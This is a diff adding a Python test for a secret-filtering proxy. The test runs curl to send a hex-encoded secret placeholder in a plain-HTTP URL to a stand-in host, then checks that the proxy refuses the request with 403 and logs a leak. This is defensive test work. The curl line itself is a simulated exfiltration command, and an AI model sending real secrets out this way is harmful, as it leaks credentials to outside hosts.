@@ -146,3 +146,12 @@ def test_keep_alive_requests_each_inspected(world: dict[str, Any]) -> None:
                        capture_output=True, text=True, timeout=90)
     assert "200 1" in p.stdout and "403 0" in p.stdout, p.stdout + p.stderr
     assert len(world["rig"].records("tkbox.decision")) == before + 1  # one tunnel
+
+
+def test_plain_http_carrying_a_placeholder_is_refused(world: dict[str, Any]) -> None:
+    """Attack: send the placeholder (or value) over plain http, which is never read as TLS."""
+    p = subprocess.run(["curl", "-sS", "--proxy", world["rig"].proxy, "-w", "\n%{http_code}",
+                        f"http://other.test:{world['port']}/?q=" + PH.hex()],
+                       capture_output=True, text=True, timeout=60)
+    assert p.stdout.endswith("403") and "secret GH" in p.stdout
+    assert world["rig"].records("tkbox.secret.leak")[-1]["body"]["where"] == "URL"
